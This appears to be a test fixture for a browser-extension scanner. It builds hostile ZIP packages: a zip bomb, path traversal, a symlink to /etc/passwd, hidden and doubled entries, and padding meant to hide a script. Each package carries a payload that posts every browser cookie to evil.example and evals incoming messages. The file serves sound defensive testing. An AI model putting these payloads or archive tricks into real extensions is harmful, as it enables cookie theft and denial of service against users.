import type { Finding } from '../../model/finding.ts';
import { crc32 } from '../sources/inflater.ts';
import { makeZip, type MadeEntry } from './makeZip.ts';

/** A hostile package: what must be named, and the payload that must still be found. */
export interface Hostile {
  readonly name: string;
  make(): Uint8Array;
  /** The rule or the kind of note that names the trick; undefined where nothing is wrong with the container. */
  readonly named?: string;
}

/** The payload that each package carries behind its trick, and the rule that finds it. */
const PAYLOAD =
  'chrome.cookies.getAll({}, (all) => fetch("https://evil.example/c", { method: "POST", body: JSON.stringify(all) }));\nwindow.addEventListener("message", (event) => eval(event.data));\n';
const manifest: MadeEntry = {
  name: 'manifest.json',
  content:
    '{"manifest_version":2,"name":"Hostile","version":"1","permissions":["cookies","<all_urls>"],"background":{"scripts":["bg.js"]},"content_security_policy":"script-src \'self\' \'unsafe-eval\'; object-src \'self\'"}',
};
const payload: MadeEntry = { name: 'bg.js', content: PAYLOAD };
const many = (count: number, make: (i: number) => MadeEntry): MadeEntry[] =>
  Array.from({ length: count }, (_, i) => make(i));
const zeros = (size: number): Uint8Array => new Uint8Array(size).fill(47);
const script = (content: string | Uint8Array): MadeEntry[] => [manifest, { name: 'bg.js', content }];
const packs = new Map<number, Pick<MadeEntry, 'raw' | 'unpacked' | 'crc'>>();
/** Filler of a size, packed once. */
const packed = (size: number): Pick<MadeEntry, 'raw' | 'unpacked' | 'crc'> => {
  const known = packs.get(size) ?? {
    raw: process.getBuiltinModule('node:zlib').deflateRawSync(zeros(size)),
    unpacked: size,
    crc: crc32(zeros(size)),
  };
  packs.set(size, known);
  return known;
};
const utf16 = (text: string): Uint8Array => {
  const bytes = new Uint8Array(2 + text.length * 2);
  bytes.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) new DataView(bytes.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
  return bytes;
};
const repeated = (piece: string, size: number): string => piece.repeat(Math.ceil(size / piece.length));

/** Every case of the list of pitfalls, each with a payload behind it. */
export const HOSTILE: readonly Hostile[] = [
  {
    name: '1 GiB in one entry',
    make: () => makeZip([{ name: 'bomb.bin', raw: bomb(), unpacked: 2 ** 30, crc: 1 }, manifest, payload]),
    named: 'archive-bomb',
  },
  {
    name: '60 entries of 10 MB',
    make: () => makeZip([...many(60, (i) => ({ name: `z${i}.txt`, ...packed(10_000_000) })), manifest, payload]),
    named: 'archive-bomb',
  },
  {
    name: '20,000 entries sharing one header',
    make: () =>
      makeZip([
        { name: 'a.bin', ...packed(5_000_000) },
        ...many(19_990, (i) => ({ name: `a${i}.bin`, content: '', sameBytesAs: 0, packed: 5000, unpacked: 5_000_000 })),
        manifest,
        payload,
      ]),
    named: 'archive-bomb',
  },
  {
    name: '60,000 tiny entries',
    make: () => makeZip([...many(60_000, (i) => ({ name: `t/${i}.txt`, content: 'x', method: 0 })), manifest, payload]),
    named: 'archive-over-limits',
  },
  {
    name: 'claimed size too small',
    make: () => makeZip([manifest, { ...payload, unpacked: 10 }]),
    named: 'archive-false-sizes',
  },
  {
    name: 'two scripts of one name',
    make: () => makeZip([manifest, payload, { name: 'bg.js', content: 'console.log("harmless")' }]),
    named: 'archive-reads-two-ways',
  },
  {
    name: 'names differing by case',
    make: () => makeZip([manifest, payload, { name: 'BG.js', content: '1' }]),
    named: 'archive-case-clash',
  },
  {
    name: 'name pointing outside',
    make: () => makeZip([manifest, payload, { name: '../../../etc/cron.d/x', content: 'x' }]),
    named: 'archive-unsafe-names',
  },
  {
    name: 'link',
    make: () => makeZip([manifest, payload, { name: 'link.js', content: '/etc/passwd', mode: 0o120777 }]),
    named: 'archive-unsafe-names',
  },
  {
    name: 'junk put before',
    make: () => makeZip([manifest, payload], { prepend: new TextEncoder().encode('#!/bin/sh\nexit 0\n') }),
    named: 'archive-hidden-data',
  },
  {
    name: 'archive in the comment',
    make: () =>
      makeZip([manifest, payload], {
        comment: makeZip([{ name: 'manifest.json', content: '{"manifest_version":3,"name":"Nice","version":"1"}' }]),
      }),
    named: 'archive-reads-two-ways',
  },
  {
    name: 'other name before the data',
    make: () => makeZip([manifest, { ...payload, localName: 'readme.txt' }]),
    named: 'archive-reads-two-ways',
  },
  {
    name: 'entry in no directory',
    make: () =>
      makeZip([
        manifest,
        { name: 'x.txt', content: 'x' },
        { ...payload, unlisted: true },
        { name: 'y.txt', content: 'y' },
      ]),
    named: 'archive-hidden-data',
  },
  {
    name: 'no directory',
    make: () => makeZip([manifest, payload], { noDirectory: true }),
    named: 'archive-unreadable-entries',
  },
  {
    name: 'encrypted entry',
    make: () => makeZip([manifest, payload, { name: 'e.js', content: 'x', flags: 1 }]),
    named: 'archive-unreadable-entries',
  },
  {
    name: 'unknown method',
    make: () => makeZip([manifest, payload, { name: 'e.js', content: 'x', method: 97 }]),
    named: 'archive-unreadable-entries',
  },
  {
    name: '10 MB single line before the payload',
    make: () => makeZip(script(`${repeated('x=1;', 10_000_000)}${PAYLOAD}`)),
  },
  {
    name: '20,000 nested parentheses',
    make: () => makeZip(script(`${'('.repeat(20_000)}1${')'.repeat(20_000)};\n${PAYLOAD}`)),
  },
  { name: 'chain of 60,000 plus signs', make: () => makeZip(script(`x=${'1+'.repeat(60_000)}1;\n${PAYLOAD}`)) },
  { name: '100,000 nested brackets', make: () => makeZip(script(`${'['.repeat(100_000)}\n${PAYLOAD}`)) },
  { name: 'broken syntax before the payload', make: () => makeZip(script(`function (((\n${PAYLOAD}`)) },
  { name: 'UTF-16 script', make: () => makeZip(script(utf16(PAYLOAD))) },
  {
    name: 'latin-1 script',
    make: () =>
      makeZip(
        script(new Uint8Array([...new TextEncoder().encode('// caf'), 0xe9, 10, ...new TextEncoder().encode(PAYLOAD)])),
      ),
  },
  {
    name: 'script called logo.png',
    make: () =>
      makeZip([
        { ...manifest, content: String(manifest.content).replace('bg.js', 'logo.png') },
        { name: 'logo.png', content: PAYLOAD },
      ]),
    named: 'script-under-other-name',
  },
  {
    name: 'manifest with marks and comments',
    make: () => makeZip([{ ...manifest, content: `\ufeff// hello\n${String(manifest.content)}` }, payload]),
  },
  { name: 'payload behind 30 MB of blanks', make: () => makeZip(script(`${' '.repeat(30_000_000)}${PAYLOAD}`)) },
];

/** Whether a finding is about the payload: what its script does, not what the manifest says. */
export function isPayload(finding: Finding): boolean {
  return (
    (finding.category === 'flows' || finding.category === 'code') &&
    finding.place.path !== 'manifest.json' &&
    finding.rule !== 'script-under-other-name'
  );
}

/** 1 GiB of one letter in about 1 MB, without holding a gibibyte: deflate's own repeats, block by block. */
function bomb(): Uint8Array {
  // A fixed-Huffman block cannot be cut at byte borders easily; zlib's full flush makes blocks that can be repeated.
  const { deflateRawSync, constants } = process.getBuiltinModule('node:zlib');
  const piece = deflateRawSync(zeros(16 * 1024 * 1024), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const end = deflateRawSync(new Uint8Array(0));
  const whole = new Uint8Array(piece.length * 64 + end.length);
  for (let i = 0; i < 64; i++) whole.set(piece, i * piece.length);
  whole.set(end, piece.length * 64);
  return whole;
}
